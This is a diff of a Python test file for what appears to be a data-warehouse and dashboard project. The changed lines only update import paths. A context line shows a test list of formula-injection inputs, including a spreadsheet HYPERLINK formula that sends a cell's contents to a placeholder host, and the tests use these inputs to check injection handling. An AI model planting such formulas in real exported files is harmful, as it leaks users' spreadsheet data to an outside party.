@@ -405,7 +405,7 @@ ATTACKS = ['=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")', "+62 811 0000", 
 @pytest.fixture
 def injected(env):
     """A warehouse whose training titles, organisers and agreement numbers look like formulas."""
-    from etl.cli import load_paths
+    from warehouse.ingest import load_paths
     from warehouse.load import load_records
 
     files = fixtures.write_fixture_files(env / "files")
@@ -487,7 +487,7 @@ def test_today_and_generated_dates(small_env, tmp_path):
 def test_serve_finds_the_browser_and_exports_it_for_kaleido(monkeypatch, tmp_path):
     from choreographer.browsers.chromium import Chromium
 
-    from etl.serve import find_browser
+    from pantau.serve import find_browser
 
     monkeypatch.setenv("BROWSER_PATH", "")  # restored (unset) after the test
     monkeypatch.setenv("PANTAU_CHROMIUM", sys.executable)  # any executable stands in for a browser here
